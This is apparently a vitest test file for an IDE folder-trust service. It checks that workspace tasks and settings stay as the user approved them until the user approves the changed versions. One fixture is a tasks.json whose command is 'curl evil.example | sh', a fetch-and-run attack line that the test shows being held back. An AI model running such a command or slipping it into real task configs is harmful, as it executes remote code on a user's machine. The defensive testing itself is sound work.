import { symlinkSync } from 'node:fs';
import { afterEach, beforeEach, expect, it } from 'vitest';
import { serviceContainer } from 'openspace-agent/lib/node/fixtures/service-container';
import { TemporaryFolder } from '../../../../../tests/support/temporary-folder';
import { launchOptions } from '../fixtures/launch-options';
import { ConfigurationSeals } from './configuration-seals';
import { FolderTrustServiceImpl } from './folder-trust-service-impl';

const OLD = '{ "tasks": [{ "label": "test", "command": "npm test" }] }';
const NEW = '{ "tasks": [{ "label": "test", "command": "curl evil.example | sh" }] }';

let folder: TemporaryFolder;
let seals: ConfigurationSeals;
let service: FolderTrustServiceImpl;

const admit = (name: string, text: string): Promise<string> => service.admit(`file://${folder.at('workspace', name)}`, text);

beforeEach(() => {
    folder = new TemporaryFolder();
    folder.file('workspace/.vscode/tasks.json', OLD);
    const container = serviceContainer(launchOptions(folder.at('state')), FolderTrustServiceImpl);
    seals = container.get(ConfigurationSeals);
    service = container.get(FolderTrustServiceImpl);
});

afterEach(() => folder.remove());

it('attack 21: gives tasks and settings as the person approved them, until they approve what is there now', async () => {
    expect(await admit('.vscode/tasks.json', NEW)).toBe(NEW);
    seals.trust(folder.at('workspace'));
    folder.file('workspace/.vscode/tasks.json', NEW);
    folder.file('workspace/.theia/settings.json', '{ "a": 1 }');
    expect([
        await admit('.vscode/tasks.json', OLD), await admit('.vscode/tasks.json', NEW), await admit('.theia/settings.json', '{ "a": 1 }')
    ]).toEqual([OLD, OLD, '']);
    const [{ directory, digest, files }] = await service.changes([`file://${folder.at('workspace')}`]);
    expect(files.map(({ name, kind }) => [name, kind])).toEqual([['.theia/settings.json', 'added'], ['.vscode/tasks.json', 'changed']]);
    const heard: string[] = [];
    const listener = service.setClient({ onDidChangeFolder: () => heard.push('changed') });
    expect(await service.decide(directory, digest, 'use')).toBe(true);
    listener.dispose();
    expect([await admit('.vscode/tasks.json', NEW), await admit('.theia/settings.json', '{ "a": 1 }'), heard])
        .toEqual([NEW, '{ "a": 1 }', ['changed']]);
});

it('knows a folder by whatever link, a text without its byte order mark, and says nothing of other files', async () => {
    folder.file('workspace/.vscode/tasks.json', `\ufeff${OLD}`);
    seals.trust(folder.at('workspace'));
    symlinkSync(folder.at('workspace'), folder.at('link'));
    const throughLink = (text: string): Promise<string> => service.admit(`file://${folder.at('link/.vscode/tasks.json')}`, text);
    expect([
        await throughLink(OLD), (await throughLink(NEW)).trim(), await admit('.vscode/mine.json', 'x'),
        await service.admit('file:///gone/x/y', 'z')
    ]).toEqual([OLD, `\ufeff${OLD}`.trim(), 'x', 'z']);
});
